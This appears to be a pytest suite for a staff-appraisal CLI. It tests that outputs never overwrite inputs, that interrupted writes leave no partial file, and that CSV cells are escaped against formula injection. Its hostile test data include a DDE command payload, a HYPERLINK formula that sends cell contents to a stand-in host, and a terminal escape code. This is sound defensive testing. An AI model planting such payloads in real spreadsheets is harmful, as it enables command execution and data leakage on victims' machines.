"""What an output file must never do: overwrite an input, carry a formula into a
spreadsheet, or leave a half-written file behind when the run is stopped."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from appraise.cli import main
from appraise.report.spreadsheet import FORMULA_STARTS, row, text

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "schemes" / "examples"
CASCADE = ROOT / "tests" / "schemes" / "cascade"


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def snapshot(folder: Path) -> dict[str, str]:
    """Every file in ``folder`` (links as links), by name, with a digest of its bytes."""
    return {p.name: ("-> " + os.readlink(p)) if p.is_symlink()
            else hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


@pytest.fixture
def q1(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder holding the example scheme and its data, as a person has them."""
    shutil.copy(EXAMPLES / "sales_company.yaml", tmp_path / "scheme.yaml")
    shutil.copy(EXAMPLES / "2026-Q1.csv", tmp_path / "q1.csv")
    monkeypatch.chdir(tmp_path)
    return tmp_path


# -- item 8: an output never overwrites an input ----------------------------------------

OVER_DATA = ("Error: Invalid value for '-o' / '--output': '{out}' is the same file as --data "
             "'q1.csv': writing there would destroy the data; write the output to another file")
SR06 = ("person 'SR06' is not in the scheme's people, and is scored on post 'sales_rep', as "
        "the data says (add them under people: in the scheme, or correct the id)")
OVER_SCHEME = ("Error: Invalid value for '-o' / '--output': '{out}' is the same file as the "
               "scheme 'scheme.yaml': writing there would destroy the scheme; write the output "
               "to another file")


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_score_refuses_to_write_over_its_data(q1: Path, fmt: str) -> None:
    before = snapshot(q1)
    code, out, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "--format", fmt,
                            "-o", "q1.csv")
    assert (code, out, err.splitlines()[-1]) == (2, "", OVER_DATA.format(out="q1.csv"))
    assert snapshot(q1) == before


def test_score_refuses_to_write_over_its_scheme(q1: Path) -> None:
    before = snapshot(q1)
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", "scheme.yaml")
    assert (code, err.splitlines()[-1]) == (2, OVER_SCHEME.format(out="scheme.yaml"))
    assert snapshot(q1) == before


@pytest.mark.parametrize("out", ["gone/../q1.csv", "gone/../scheme.yaml"])
def test_a_path_through_a_folder_that_is_not_there_is_refused(q1: Path, out: str) -> None:
    """'gone/../q1.csv' names q1.csv however the folder 'gone' is missing: the file a
    write would replace, not the path as spelt, is what is compared."""
    before = snapshot(q1)
    code, out_, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", out)
    said = OVER_DATA if out.endswith("q1.csv") else OVER_SCHEME
    assert (code, out_, err.splitlines()[-1]) == (2, "", said.format(out=out))
    assert snapshot(q1) == before


def test_the_same_file_by_another_spelling_is_refused(q1: Path) -> None:
    before = snapshot(q1)
    out = str(q1 / "sub" / ".." / "q1.csv")
    (q1 / "sub").mkdir()
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", out)
    assert (code, err.splitlines()[-1]) == (2, OVER_DATA.format(out=out))
    (q1 / "sub").rmdir()
    assert snapshot(q1) == before


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges on Windows")
def test_a_link_to_an_input_is_refused(q1: Path) -> None:
    (q1 / "results.csv").symlink_to("q1.csv")
    (q1 / "latest.yaml").symlink_to(q1 / "scheme.yaml")
    before = snapshot(q1)
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", "results.csv")
    assert (code, err.splitlines()[-1]) == (2, OVER_DATA.format(out="results.csv"))
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", "latest.yaml")
    assert (code, err.splitlines()[-1]) == (2, OVER_SCHEME.format(out="latest.yaml"))
    assert snapshot(q1) == before


def test_a_hard_link_to_an_input_is_refused(q1: Path) -> None:
    os.link(q1 / "q1.csv", q1 / "copy.csv")
    before = snapshot(q1)
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "--format", "csv",
                          "-o", "copy.csv")
    assert (code, err.splitlines()[-1]) == (2, OVER_DATA.format(out="copy.csv"))
    assert snapshot(q1) == before


def test_the_output_is_refused_before_any_work_is_done(q1: Path) -> None:
    (q1 / "scheme.yaml").write_text("appraise: 1\nname: [\n", encoding="utf-8")
    code, _, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "-o", "q1.csv")
    assert (code, err.splitlines()[-1]) == (2, OVER_DATA.format(out="q1.csv"))
    assert "scheme.yaml:" not in err  # the scheme was never read


def test_targets_refuses_to_write_over_its_scheme(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copy(CASCADE / "small.yaml", tmp_path / "scheme.yaml")
    monkeypatch.chdir(tmp_path)
    before = snapshot(tmp_path)
    code, _, err = invoke("targets", "scheme.yaml", "--format", "csv", "-o", "scheme.yaml")
    assert (code, err.splitlines()[-1]) == (2, OVER_SCHEME.format(out="scheme.yaml"))
    assert snapshot(tmp_path) == before


def test_another_file_beside_the_inputs_is_written(q1: Path) -> None:
    code, out, err = invoke("score", "scheme.yaml", "--data", "q1.csv", "--format", "csv",
                            "-o", "results.csv")
    assert (code, out, err) == (0, "", f"q1.csv:12:1: warning: SR06: {SR06}\n")
    assert (q1 / "results.csv").read_text(encoding="utf-8-sig").startswith("person,name,")


# -- item 9: no cell is read as a formula ------------------------------------------------

HOSTILE_SCHEME = """\
appraise: 1
name: hostile
label: 方案
grades:
  - {grade: "=A", min: 90, coefficient: 1.2}
  - {grade: "+B", min: 0, coefficient: 1}
  - {grade: "@E", coefficient: 0}
fields:
  result: {label: 结果}
indicators:
  result:
    label: 结果
    formula: result
    rule: {kind: formula, points: value}
scorecards:
  rep:
    items:
      - {indicator: result, weight: 100}
units:
  sales: {label: "-销售部", kind: company}
posts:
  rep: {label: 销售, unit: sales, scorecard: rep, bonus_base: 1000}
people:
  "=1+2": {name: "@SUM(A1:A9)", post: rep}
  "+A1": {name: "\\tTab", post: rep}
  "-A1": {name: "\\rReturn", post: rep}
  "@A1": {name: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"点击\\")", post: rep}
  P5: {name: "-20", post: rep}
"""
CALC = "=cmd|' /C calc'!A0"
HOSTILE_DATA = ("id,period,result\n"
                + "".join(f'{who},"{CALC}",{value}\n' for who, value in
                          [("=1+2", "95"), ("+A1", "-20"), ("-A1", "50"), ("@A1", "0"),
                           ("P5", "-0.5")]))


def test_text_cells_of_the_score_csv_are_never_formulas(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch
                                                          ) -> None:
    monkeypatch.chdir(tmp_path)
    Path("s.yaml").write_text(HOSTILE_SCHEME, encoding="utf-8")
    Path("d.csv").write_text(HOSTILE_DATA, encoding="utf-8")
    code, out, err = invoke("score", "s.yaml", "--data", "d.csv", "--format", "csv")
    assert (code, err) == (0, "")
    # Every text cell that starts with = + - @, a tab or a carriage return gets an
    # apostrophe and quotes; numbers, negative ones too, stay numbers.
    assert out.split("\n") == [
        "person,name,post,unit,period,points:result,weighted_sum,deductions,bonuses,veto,total,"
        "grade,coefficient,bonus,rank,rank_of",
        "\"'=1+2\",\"'@SUM(A1:A9)\",rep,sales,\"'=cmd|' /C calc'!A0\",95.00,95.00,0.00,0.00,,"
        "95.00,\"'=A\",1.2,1200.00,1,5",
        "\"'+A1\",\"'\tTab\",rep,sales,\"'=cmd|' /C calc'!A0\",-20.00,-20.00,0.00,0.00,,-20.00,"
        "\"'@E\",0,0.00,5,5",
        "\"'-A1\",\"'\rReturn\",rep,sales,\"'=cmd|' /C calc'!A0\",50.00,50.00,0.00,0.00,,50.00,"
        "\"'+B\",1,1000.00,2,5",
        "\"'@A1\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",rep,sales,"
        "\"'=cmd|' /C calc'!A0\",0.00,0.00,0.00,0.00,,0.00,\"'+B\",1,1000.00,3,5",
        "P5,\"'-20\",rep,sales,\"'=cmd|' /C calc'!A0\",-0.50,-0.50,0.00,0.00,,-0.50,\"'@E\",0,"
        "0.00,4,5",
        "",
    ]
    # A CSV reader gets each text back whole, with the apostrophe in front.
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert [row[:2] for row in rows[1:]] == [
        ["'=1+2", "'@SUM(A1:A9)"], ["'+A1", "'\tTab"], ["'-A1", "'\rReturn"],
        ["'@A1", "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"], ["P5", "'-20"]]


def hostile_cascade(tmp_path: Path) -> str:
    text = (CASCADE / "small.yaml").read_text(encoding="utf-8")
    for safe, hostile in [("label: 东区,", 'label: "-东区",'),
                          ("name: 东一,", 'name: "=东一",'), ("name: 西二,", 'name: "@西二",'),
                          ("label: 销售额目标", 'label: "+目标"')]:
        assert safe in text
        text = text.replace(safe, hostile)
    (tmp_path / "s.yaml").write_text(text, encoding="utf-8")
    return str(tmp_path / "s.yaml")


def test_text_cells_of_the_targets_csv_are_never_formulas(tmp_path: Path) -> None:
    code, out, err = invoke("targets", hostile_cascade(tmp_path), "--format", "csv")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "cascade,kind,id,label,unit,depth,split,target,stretch,children,gap",
        "revenue,unit,company,公司,company,0,shares,1200000,,1200000,0",
        "revenue,unit,east,\"'-东区\",east,1,explicit,720000,,720000,0",
        "revenue,person,E1,\"'=东一\",east,2,,300000,,,",
        "revenue,person,E2,东二,east,2,,240000,,,",
        "revenue,person,E3,东三,east,2,,180000,,,",
        "revenue,unit,west,西区,west,1,even,480000,,480000,0",
        "revenue,person,W1,西一,west,2,,240000,,,",
        "revenue,person,W2,\"'@西二\",west,2,,240000,,,",
    ]


def test_a_negative_gap_in_the_targets_csv_stays_a_number() -> None:
    code, out, _ = invoke("targets", str(EXAMPLES / "cascade_company.yaml"), "--period",
                          "2026-Q1", "--format", "csv")
    assert code == 0
    assert "revenue,unit,north,华北销售中心,north,1,explicit,16500000,,16600000,-100000" \
        in out.splitlines()


def test_text_cells_of_a_period_kept_by_month_are_never_formulas(tmp_path: Path) -> None:
    code, out, err = invoke("score", hostile_cascade(tmp_path), "--data",
                            str(CASCADE / "small-2026Q1.csv"), "--period", "2026-Q1",
                            "--format", "csv")
    assert (code, err) == (0, "")
    names = {row["person"]: row["name"] for row in csv.DictReader(io.StringIO(out))}
    assert (names["E1"], names["W2"], names["E2"]) == ("'=东一", "'@西二", "东二")
    assert [line.split(",")[:2] for line in out.splitlines() if line.startswith(("E1,", "W2,"))] \
        == [["E1", "\"'=东一\""], ["W2", "\"'@西二\""]]


def test_the_example_csvs_are_unchanged_by_the_escaping() -> None:
    """No cell of the shipped examples starts with a formula character: not one byte moves."""
    code, out, _ = invoke("score", str(EXAMPLES / "sales_company.yaml"), "--data",
                          str(EXAMPLES / "2026-Q1.csv"), "--format", "csv")
    assert code == 0
    assert "'" not in out and '"' not in out
    assert out.splitlines()[6] == ("SR01,张伟,sales_rep,sales_dept,2026-Q1,,80.00,100.00,90.00,"
                                   "0.00,119.50,,80.00,5.00,,,86.67,,,,99.80,5.00,0.00,,94.80,B,"
                                   "1.0,20000.00,2,6")


CELLS = st.lists(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\0\",; aZ9中"))),
                 min_size=2, max_size=5)


@given(CELLS)
def test_every_text_comes_back_whole_and_never_as_a_formula(cells: list[str]) -> None:
    [back] = list(csv.reader(io.StringIO(row(map(text, cells)), newline="")))
    assert back == [("'" + c if c[:1] and c[0] in FORMULA_STARTS else c) for c in cells]
    assert not any(c.startswith(FORMULA_STARTS) for c in back)


@given(CELLS)
def test_a_row_of_ordinary_cells_is_what_the_csv_module_writes(cells: list[str]) -> None:
    """Byte for byte, so that no CSV of ordinary names and numbers changes; the module
    leaves a carriage return inside a cell unquoted, which a reader takes for a new row."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    if not any(c.startswith("'") or "\r" in c for c in cells):
        assert row(cells) == out.getvalue()


# -- item 10: a run stopped while it writes leaves nothing behind ------------------------

HOOK = """\
import sys, time
from appraise import cli, report

scored = report.SCORE_FORMATS["json"]


def slow(result):
    for n, chunk in enumerate(scored(result)):
        yield chunk
        if n == 1:  # part of the output is in the temporary file: say so, and wait
            print("writing", file=sys.stderr, flush=True)
            time.sleep(60)


report.SCORE_FORMATS["json"] = slow
cli.main(sys.argv[1:], prog_name="appraise")
"""


#: Each signal that stops a run, the exit code it ends with and what it says: Ctrl-C is
#: click's "Aborted!"; the others end as a shell reports a process they stopped.
STOPS = [(signal.SIGINT, 1, "\nAborted!\n")] + [
    (number, 128 + number, "") for number in
    (getattr(signal, name) for name in ("SIGTERM", "SIGHUP") if hasattr(signal, name))]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX signals")
@pytest.mark.parametrize(("stop", "code", "said"), STOPS)
def test_a_run_stopped_mid_write_leaves_no_temporary_file(
        tmp_path: Path, stop: signal.Signals, code: int, said: str) -> None:
    hook = tmp_path / "hook.py"
    hook.write_text(HOOK, encoding="utf-8")
    out = tmp_path / "out" / "results.json"
    out.parent.mkdir()
    out.write_text("last quarter's results\n", encoding="utf-8")
    run = subprocess.Popen(
        [sys.executable, str(hook), "score", str(EXAMPLES / "sales_company.yaml"), "--data",
         str(EXAMPLES / "2026-Q1.csv"), "--format", "json", "-o", str(out)],
        stderr=subprocess.PIPE, text=True, cwd=ROOT,
        # Ctrl-C as in a terminal: a child started in the background would ignore SIGINT
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        assert run.stderr is not None
        assert run.stderr.readline().endswith(f"warning: SR06: {SR06}\n")
        assert run.stderr.readline() == "writing\n"
        assert sorted(p.name.startswith(".appraise-") for p in out.parent.iterdir()) \
            == [False, True]  # the old results, and the new ones half written beside them
        run.send_signal(stop)
        assert (run.wait(timeout=30), run.stderr.read()) == (code, said)
    finally:
        run.kill()
        run.wait()
    assert [p.name for p in out.parent.iterdir()] == ["results.json"]
    assert out.read_text(encoding="utf-8") == "last quarter's results\n"


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX signals")
def test_a_signal_waits_while_the_temporary_file_is_made_or_removed() -> None:
    from appraise.cli_io import _Stops

    done = []
    with _Stops() as stops, pytest.raises(SystemExit) as info, stops.held():
        os.kill(os.getpid(), signal.SIGTERM)
        done.append("the file is made and named")
    assert (info.value.code, done) == (128 + signal.SIGTERM, ["the file is made and named"])
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # as it was


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX signals")
def test_a_signal_the_run_was_told_to_ignore_stays_ignored() -> None:
    from appraise.cli_io import _Stops

    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)  # as nohup starts a run
    try:
        with _Stops():
            assert signal.getsignal(signal.SIGHUP) == signal.SIG_IGN
            assert signal.getsignal(signal.SIGTERM) != signal.SIG_DFL
    finally:
        signal.signal(signal.SIGHUP, before)


def test_a_name_with_an_escape_code_is_shown_not_run_on_a_terminal(tmp_path: Path) -> None:
    """A name pasted from a terminal may hold an escape code that recolours or clears the
    screen of whoever prints the results: the table and the messages show it as text."""
    data = tmp_path / "q1.csv"
    data.write_text((EXAMPLES / "2026-Q1.csv").read_text(encoding="utf-8").replace(
        "SR06,黄欣,", "SR06,\x1b[2J黄欣,"), encoding="utf-8")
    code, out, err = invoke("score", str(EXAMPLES / "sales_company.yaml"), "--data", str(data))
    assert code == 0
    assert "\x1b" not in out + err
    assert [line.split()[:3] for line in out.splitlines() if "SR06" in line] == \
        [["5/6", "SR06", "\\x1b[2J黄欣"]]
